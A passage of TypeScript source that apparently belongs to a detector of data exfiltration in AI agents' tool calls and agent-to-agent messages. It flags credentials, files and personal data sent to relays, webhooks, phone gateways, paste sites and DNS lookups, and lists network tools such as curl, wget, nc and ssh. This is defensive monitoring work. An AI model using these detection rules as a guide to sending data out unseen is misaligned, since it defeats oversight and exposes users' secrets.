    if (typeof key === "string" && FILE_ARG.test(key) && /[/\\.]/.test(w) && !/^https?:/i.test(w) && !mediaFile(w) && !publishedFile(w)) return "a local file to a tunnel or a file drop";
    if (site.path.includes("arguments") && randomToken(w)) return "random-looking data to a tunnel or a file drop";
  }
  return null;
}

/** A folder named for publication (`public`, `press`, `press-kit`, `published`), holding no data file and nothing marked. */
const PUBLISHED_FOLDER = /(?:^|[/\\])(?:public|press|press[-_ ]?kit|published|public[-_ ]?(?:assets|docs|downloads|files|site))[/\\]/i;
function publishedFile(path: string): boolean {
  const p = path.trim();
  return p.length <= 1024 && PUBLISHED_FOLDER.test(p) && !DATA_FILE.test(p) && fileKind(p) === null && !markedText(p) && !/(?:^|[/\\])\.\.(?:[/\\]|$)/.test(p);
}

/** Whether every payload of a call to a paste site is a log with nothing in it, and no local file is handed over. */
function pastedLog(sites: StringSite[], url: StringSite): boolean {
  const judge = (t: string) => sensitivePayload(t) ?? personalPayload(t, true) ?? (detectSecrets([{ path: [], value: t }]).length > 0 ? "a secret" : null);
  let logs = 0;
  for (const site of sites) {
    if (site === url || site.path[0] !== "params" || site.path.includes("_meta")) continue;
    const key = site.path[site.path.length - 1];
    if (typeof key === "string" && FILE_ARG.test(key)) return false;
    if (site.value.length < 32 && !isBlob(site.value)) continue;
    if (!logOnly(site.value, judge)) return false;
    logs++;
  }
  return logs > 0;
}

/**
 * (Ninth round) A request to a relay (exfil-relays.ts: automation triggers, webhook routers, form back-ends, mock and
 * echo endpoints) that carries people's records, credentials or confidential text in its payload (the call's other
 * arguments, or the rest of the command line holding the URL), or a random-looking value in its query that is not the
 * relay's own routing. In a message to another agent, only the URL is judged (a push-notification address).
 */
function toRelay(r: Requested, sites: StringSite[], lists: ExfiltrationLists, toolCall: boolean): string | null {
  const url = parse(r.url);
  if (url === null) return null;
  const host = hostOf(url);
  if (!isRelay(host, url.pathname) || lists.allow.some((re) => re.test(host))) return null;
  if (relayQueryToken(url)) return "a token to a relay";
  // (Tenth round) A form back-end's answers in the query (`entry.N=`): a seed, or what a payload may not carry.
  const inQuery = relayQueryPayload(url, sensitivePayload);
  if (inQuery) return `${inQuery} to a relay`;
  if (!toolCall) return null;
  const v = r.site.value;
  if (r.start > 0 || r.end < v.length) {
    const what = sensitivePayload(withoutSpan(v, r.start, r.end), teamChat(host));
    if (what) return `${what} to a relay`;
  }
  for (const site of sites) {
    if (site === r.site || site.path[0] !== "params" || site.path[1] !== "arguments" || site.path.includes("headers")) continue;
    const what = sensitivePayload(site.value, teamChat(host));
    if (what) return `${what} to a relay`;
    // (Sixteenth round) A data file handed by reference, a credential under a key that names it (exfil-senders.ts).
    const file = handedDataFile(site.value, site.path[site.path.length - 1]);
    if (file) return `a data file (${file}) to a relay`;
    const credential = namedCredential(site.value);
    if (credential) return `${credential} to a relay`;
  }
  return null;
}

/**
 * (Fifteenth round) A messaging endpoint by its shape (an incoming webhook, a room's messages, a push to a device, a
 * hosted form's submission) handed what a message may not carry (exfil-messages.ts).
 */
function toMessageEndpoint(r: Requested, sites: StringSite[], lists: ExfiltrationLists, toolCall: boolean): string | null {
  const url = parse(r.url);
  if (url === null) return null;
  const host = hostOf(url);
  if (lists.allow.some((re) => re.test(host)) || localHost(host)) return null;
  // The relays of earlier rounds are messaging endpoints too: what toRelay's list does not name is judged here.
  const what = endpointMessage(url, r.site, r.start, r.end, sites, toolCall, isRelay(host, url.pathname));
  return what === null ? null : `${what} to a messaging endpoint`;
}

/** (Sixteenth round) A message to a phone or a device through a provider's API (exfil-gateways.ts). */
function toPhoneGateway(r: Requested, sites: StringSite[], toolCall: boolean): string | null {
  const url = parse(r.url);
  if (url === null || !phoneGateway(hostOf(url), url.pathname)) return null;
  const texts = [decode(url.pathname) + " " + url.search];
  if (toolCall) {
    const v = r.site.value;
    if (r.start > 0 || r.end < v.length) texts.push(withoutSpan(v, r.start, r.end));
    for (const site of sites) if (site !== r.site && site.path[0] === "params" && site.path[1] === "arguments" && !site.path.includes("headers")) texts.push(site.value);
  }
  for (const t of texts) {
    const what = gatewayPayload(t);
    if (what) return `${what} to a phone gateway`;
  }
  return null;
}

/** (Thirteenth round) A credential of the user's in the query of a URL handed to another agent (exfil-hosted.ts). */
function linkedCredential(raw: string, lists: ExfiltrationLists): string | null {
  const url = parse(raw);
  if (url === null || localHost(hostOf(url)) || lists.allow.some((re) => re.test(hostOf(url)))) return null;
  const host = hostOf(url);
  return credentialInLink(url, (v) => detectSecrets([{ path: [], value: v }]).some((d) => !issuedFor(d.type, host)));
}

function hostVerdict(host: string, lists: ExfiltrationLists): string | null {
  const h = host.toLowerCase();
  if (lists.collectors.some((re) => re.test(h))) return "a request collector";
  if (lists.allow.some((re) => re.test(h))) return null;
  // (Eighth round) As written: a name given to dig or to a DNS-over-HTTPS query keeps its case, and base64 in it too.
  return hostData(host);
}

/** Methods whose arguments a tool or an agent acts on: the URLs in them are requested, not shown. */
const TOOL_CALLS = new Set(["tools/call", "steps/toolCallRequest"]);
const A2A_SENDS = new Set(["message/send", "message/stream", "SendMessage", "SendStreamingMessage"]);
const REQUEST_URL = /\bhttps?:\/\/[^\s"'<>`)\]}]{1,8192}/gi;
/** A host name of three labels or more, standing alone (a `dig`/`nslookup` argument, a `host` parameter). */
// (Twenty-fifth round) A doubled dot (an empty label) does not end the name: the labels before it still carry what they hold.
const HOST_NAME = /(?<![\w.@/:-])(?:[A-Za-z0-9_-]{1,63}\.{1,2}){2,8}[A-Za-z]{2,24}(?![\w.-]|:\/\/|\()/g;

/** Arguments that name a host, and commands that resolve or contact one: where a bare host name is a request. */
const HOST_KEYS = /^(?:host|hostname|domain|server|target|address|fqdn|name_?server|lookup)$/i;
const HOST_WORDS = ["dig", "nslookup", "host", "ping", "curl", "wget", "nc ", "ncat", "telnet", "ssh", "Resolve-DnsName", "getent"];
const HOST_COMMANDS = new RegExp(`\\b(?:${HOST_WORDS.map((w) => w.trim()).join("|")})\\b`, "i");
const HOST_WORD_IDS = HOST_WORDS.map(literalId);
/** (Twentieth round) Words that ask for a name to be resolved, in a message to another agent. */
const LOOKUP_WORDS = /\b(?:dig|nslookup|Resolve-DnsName|resolve|look\s{1,3}up|lookup)\b/i;
const URL_IDS = [literalId("://")];

/** A URL in a command line from `start`, extended over the `$(…)` it holds and what follows them up to a blank (1 KB at most). */
function overSubstitutions(v: string, start: number, end: number): string {
  let i = start;
  let depth = 0;
  const limit = Math.min(v.length, start + Math.max(1024, end - start));
  for (; i < limit; i++) {
    const c = v[i] as string;
    if (c === "(" && v[i - 1] === "$") depth++;
    else if (c === ")" && depth > 0) depth--;
    else if (depth === 0 && /[\s"'<>]/.test(c)) break;
  }
  return v.slice(start, Math.max(i, end)).replace(/[.,;:!?]+$/, "");
}

/** A value that is nothing but a host name (three labels or more): whatever the argument is called, it names a host. */
const WHOLE_HOST = /^\s*(?:[A-Za-z0-9_-]{1,63}\.{1,2}){2,8}[A-Za-z]{2,24}\.?\s*$/;

function hostContext(site: StringSite, words: boolean): boolean {
  const key = site.path[site.path.length - 1];
  return (typeof key === "string" && HOST_KEYS.test(key)) || (site.value.length <= 600 && WHOLE_HOST.test(site.value)) || (words && site.value.includes(".") && HOST_COMMANDS.test(site.value));
}

const requested = new WeakMap<StringSite[], Requested[]>();
/**
 * The last short message's list (issue 25): its detectors ask one after the other, and a `WeakMap.set` per call was
 * about 1 % of judging a 1 KB call. Only a short message (one literalsOf reads) is kept here, so no large message
 * outlives its turn; a long one's list stays in `requested`.
 */
let lastSites: StringSite[] | null = null;
let lastRequested: Requested[] = [];

interface Requested {
  site: StringSite;
  url: string;
  start: number;
  end: number;
  /** A bare host name, not a URL. */
  host: boolean;
}

/**
 * The URLs an outbound request asks to be opened: every http(s) URL in a tool call's arguments (a fetch's `url`, a
 * `curl` in a command, a webhook target) and every bare host name there, and the `uri`/`url` of the parts sent to
 * another agent (which it will fetch).
 */
function requestedUrls(sites: StringSite[], message: Record<string, unknown>): Requested[] {
  const method = message.method;
  if (typeof method !== "string" || !("id" in message)) return [];
  const tool = TOOL_CALLS.has(method);
  if (!tool && !A2A_SENDS.has(method)) return [];
  // The exfiltration and url_data detectors of one message ask for the same list.
  if (sites === lastSites) return lastRequested;
  const lits = literalsOf(sites);
  const cached = lits === null ? requested.get(sites) : undefined;
  if (cached) return cached;
  const out: Requested[] = [];
  if (lits === null) requested.set(sites, out);
  else {
    lastSites = sites;
    lastRequested = out;
  }
  const urls = lits === null || lits.any(URL_IDS);
  const words = lits === null || lits.any(HOST_WORD_IDS);
  for (const site of sites) {
    if (site.path[0] !== "params" || site.path.includes("_meta") || site.encoded !== undefined) continue;
    const v = site.value;
    if (!tool) {
      const key = site.path[site.path.length - 1];
      if ((key === "uri" || key === "url") && /^https?:\/\//i.test(v)) out.push({ site, url: v, start: 0, end: v.length, host: false });
      // The words and fields of a message to another agent: it acts on them, so a URL there is one it may open.
      else if (urls && site.path[1] === "message" && site.path[2] === "parts" && v.includes("://")) {
        REQUEST_URL.lastIndex = 0;
        for (let m; (m = REQUEST_URL.exec(v)) !== null && out.length < 256; ) {
          const url = m[0].replace(/[.,;:!?]+$/, "");
          out.push({ site, url, start: m.index, end: m.index + url.length, host: false });
        }
      }
      // (Twentieth round) A host name another agent is asked to resolve (a data part's `host`, a value that is only a
      // host name, a lookup asked in its text) is one it will look up, as a tool's argument is. Prose that merely
      // mentions a host is not a lookup: the words are the resolvers', not `host` or `ping`.
      if (site.path[1] === "message" && site.path[2] === "parts" && v.length <= 65536 && (hostContext(site, false) || (v.includes(".") && LOOKUP_WORDS.test(v)))) {
        HOST_NAME.lastIndex = 0;
        for (let m; (m = HOST_NAME.exec(v)) !== null && out.length < 256; ) out.push({ site, url: m[0], start: m.index, end: m.index + m[0].length, host: true });
      }
      continue;
    }
    // A value that is one URL is the whole URL, parentheses and all (`…list%20(14%20names)%2C%20…`).
    if (urls && v.length <= 8192 && /^https?:\/\/\S+$/i.test(v)) out.push({ site, url: v, start: 0, end: v.length, host: false });
    else if (urls && v.includes("://")) {
      REQUEST_URL.lastIndex = 0;
      for (let m; (m = REQUEST_URL.exec(v)) !== null; ) {
        let url = m[0].replace(/[.,;:!?]+$/, "");
        // (Eighth round) A command substitution in a URL of a command line is part of it: `…/tool-$(uname -m).tar.gz`.
        if (url.includes("$(")) {
          url = overSubstitutions(v, m.index, m.index + url.length);
          REQUEST_URL.lastIndex = Math.max(REQUEST_URL.lastIndex, m.index + url.length);
        }
        out.push({ site, url, start: m.index, end: m.index + url.length, host: false });
      }
    }
    if (v.length <= 65536 && hostContext(site, words)) {
      HOST_NAME.lastIndex = 0;
      for (let m; (m = HOST_NAME.exec(v)) !== null; ) out.push({ site, url: m[0], start: m.index, end: m.index + m[0].length, host: true });
    }
  }
  return out;
}
